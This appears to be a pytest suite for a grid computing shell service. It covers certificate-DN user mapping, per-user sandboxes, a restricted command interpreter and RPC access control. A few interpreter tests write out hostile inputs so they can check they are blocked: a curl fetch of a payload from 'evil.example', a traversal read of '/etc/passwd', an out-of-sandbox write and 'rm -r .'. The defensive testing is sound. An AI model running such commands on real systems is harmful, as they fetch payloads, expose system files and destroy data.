"""The shell service: user map, sandboxes, interpreter and RPC methods."""

from __future__ import annotations

import pytest

from repro.protocols.errors import Fault, FaultCode
from repro.shell.interpreter import ShellInterpreter
from repro.shell.sandbox import SandboxManager
from repro.shell.usermap import UserMap, UserMapEntry, UserMapError

JOE_DN = "/DC=org/DC=doegrids/OU=People/CN=Joe User"


class TestUserMap:
    MAP_TEXT = """
# Clarens shell user map
joe : /DC=org/DC=doegrids/OU=People/CN=Joe User ; ;
ops : /O=grid.example/OU=Operations ; cms.ops, cms.admins ;
"""

    def test_parse_paper_example(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        assert len(usermap) == 2
        assert usermap.resolve(JOE_DN) == "joe"

    def test_dn_prefix_mapping(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        assert usermap.resolve("/O=grid.example/OU=Operations/CN=Oscar Ops") == "ops"

    def test_exact_and_non_dn_entries(self):
        entry = UserMapEntry(user="svc", dns=["batch-robot", JOE_DN])
        assert entry.matches_dn("batch-robot")
        assert entry.matches_dn(JOE_DN)
        assert entry.matches_dn(JOE_DN + "/CN=proxy")        # prefix
        assert not entry.matches_dn("/O=elsewhere/CN=batch-robot")
        assert not entry.matches_dn("/DC=org/DC=doegrids/OU=People")

    def test_group_based_mapping(self):
        usermap = UserMap.parse(self.MAP_TEXT)
        member_dn = "/O=elsewhere/CN=Grace Groupmember"
        assert usermap.resolve(member_dn) is None
        assert usermap.resolve(member_dn,
                               group_membership=lambda dn, g: g == "cms.ops") == "ops"

    def test_unmapped_dn_returns_none(self):
        assert UserMap.parse(self.MAP_TEXT).resolve("/O=unknown/CN=Nobody") is None

    def test_malformed_lines_rejected(self):
        with pytest.raises(UserMapError):
            UserMap.parse("this line has no colon ; ;")
        with pytest.raises(UserMapError):
            UserMap.parse(" : /O=x/CN=y ; ;")

    def test_save_load_round_trip(self, tmp_path):
        usermap = UserMap.parse(self.MAP_TEXT)
        path = usermap.save(tmp_path / ".clarens_user_map")
        loaded = UserMap.load(path)
        assert loaded.resolve(JOE_DN) == "joe"
        assert loaded.users() == ["joe", "ops"]

    def test_load_missing_file_is_empty(self, tmp_path):
        assert len(UserMap.load(tmp_path / "missing")) == 0

    def test_entry_round_trip(self):
        entry = UserMapEntry(user="u", dns=["/O=x/CN=a"], groups=["g"])
        parsed = UserMap.parse(entry.to_line()).entries[0]
        assert parsed.user == "u" and parsed.dns == ["/O=x/CN=a"] and parsed.groups == ["g"]


class TestSandboxManager:
    def test_get_or_create_reuses_directory(self, tmp_path):
        manager = SandboxManager(tmp_path)
        first = manager.get_or_create("joe")
        (first.path / "artifact.txt").write_text("kept")
        second = manager.get_or_create("joe")
        assert first.path == second.path
        assert (second.path / "artifact.txt").read_text() == "kept"
        assert len(manager) == 1

    def test_sandboxes_adopted_after_restart(self, tmp_path):
        SandboxManager(tmp_path).get_or_create("joe")
        reopened = SandboxManager(tmp_path)
        assert reopened.get("joe") is not None

    def test_destroy(self, tmp_path):
        manager = SandboxManager(tmp_path)
        sandbox = manager.get_or_create("joe")
        assert manager.destroy("joe")
        assert not sandbox.path.exists()
        assert not manager.destroy("joe")

    def test_unsafe_user_names_sanitised(self, tmp_path):
        manager = SandboxManager(tmp_path)
        sandbox = manager.get_or_create("weird user/../name")
        assert sandbox.path.parent == tmp_path
        with pytest.raises(ValueError):
            manager.get_or_create("")


class TestShellInterpreter:
    @pytest.fixture()
    def interpreter(self, tmp_path):
        sandbox = tmp_path / "sandbox"
        sandbox.mkdir()
        return ShellInterpreter(sandbox)

    def test_echo_and_redirect(self, interpreter):
        result = interpreter.run("echo hello grid > greeting.txt")
        assert result.exit_code == 0
        assert interpreter.run("cat greeting.txt").stdout == "hello grid\n"

    def test_append_redirect(self, interpreter):
        interpreter.run("echo one > f.txt")
        interpreter.run("echo two >> f.txt")
        assert interpreter.run("cat f.txt").stdout == "one\ntwo\n"

    def test_pipeline_of_file_commands(self, interpreter):
        interpreter.run("mkdir results && echo 42.7 > results/mass.txt")
        assert interpreter.run("ls results").stdout == "mass.txt\n"
        assert "42.7" in interpreter.run("grep 42 results/mass.txt").stdout
        assert interpreter.run("wc results/mass.txt").stdout.startswith("1 1 5")

    def test_and_chain_stops_on_failure(self, interpreter):
        result = interpreter.run("cat missing.txt && echo should-not-run > out.txt")
        assert result.exit_code != 0
        assert interpreter.run("ls").stdout == ""

    def test_cp_mv_rm_touch_find(self, interpreter):
        interpreter.run("touch a.root && cp a.root b.root && mv b.root c.root")
        assert set(interpreter.run("ls").stdout.split()) == {"a.root", "c.root"}
        assert interpreter.run("find . -name *.root").stdout.count(".root") == 2
        interpreter.run("rm a.root c.root")
        assert interpreter.run("ls").stdout == ""

    def test_head_and_tail(self, interpreter):
        interpreter.run("echo l1 > f && echo l2 >> f && echo l3 >> f")
        assert interpreter.run("head -2 f").stdout == "l1\nl2\n"
        assert interpreter.run("tail -n 1 f").stdout == "l3\n"

    def test_unknown_command_rejected(self, interpreter):
        result = interpreter.run("curl http://evil.example/payload")
        assert result.exit_code == 127
        assert "not found" in result.stderr

    def test_path_escape_refused(self, interpreter):
        result = interpreter.run("cat ../../etc/passwd")
        assert result.exit_code != 0
        assert "escapes the sandbox" in result.stderr
        result = interpreter.run("echo pwned > /../outside.txt")
        assert result.exit_code != 0

    def test_rm_root_refused(self, interpreter):
        assert interpreter.run("rm -r .").exit_code != 0

    def test_pwd_reports_virtual_root(self, interpreter):
        assert interpreter.run("pwd").stdout == "/\n"


class TestShellService:
    @pytest.fixture()
    def mapped_client(self, server, client, admin_client, alice_credential):
        alice_dn = str(alice_credential.certificate.subject)
        admin_client.call("shell.add_mapping", "alice", [alice_dn], [])
        return client

    def test_unmapped_dn_denied(self, client):
        with pytest.raises(Fault) as excinfo:
            client.call("shell.cmd", "echo hi")
        assert excinfo.value.code == FaultCode.ACCESS_DENIED

    def test_cmd_runs_in_sandbox(self, mapped_client):
        result = mapped_client.call("shell.cmd", "echo analysis > notes.txt && cat notes.txt")
        assert result["exit_code"] == 0
        assert result["stdout"] == "analysis\n"
        assert result["user"] == "alice"

    def test_cmd_info_reports_sandbox(self, mapped_client):
        info = mapped_client.call("shell.cmd_info")
        assert info["user"] == "alice"
        assert info["sandbox"].endswith("alice")

    def test_sandbox_persists_across_commands(self, mapped_client):
        mapped_client.call("shell.cmd", "echo persistent > state.txt")
        result = mapped_client.call("shell.cmd", "cat state.txt")
        assert result["stdout"] == "persistent\n"

    def test_allowed_commands_listed(self, mapped_client):
        commands = mapped_client.call("shell.allowed_commands")
        assert "ls" in commands and "grep" in commands

    def test_whoami_local(self, mapped_client):
        assert mapped_client.call("shell.whoami_local") == "alice"

    def test_admin_mapping_management(self, admin_client, client):
        with pytest.raises(Fault):
            client.call("shell.list_mappings")
        mappings = admin_client.call("shell.list_mappings")
        assert any(m["user"] == "clarens" for m in mappings)

    def test_destroy_own_sandbox(self, mapped_client):
        mapped_client.call("shell.cmd", "touch junk.txt")
        assert mapped_client.call("shell.destroy_sandbox", "") is True
        result = mapped_client.call("shell.cmd", "ls")
        assert result["stdout"] == ""

    def test_destroy_other_sandbox_requires_admin(self, mapped_client):
        with pytest.raises(Fault):
            mapped_client.call("shell.destroy_sandbox", "clarens")
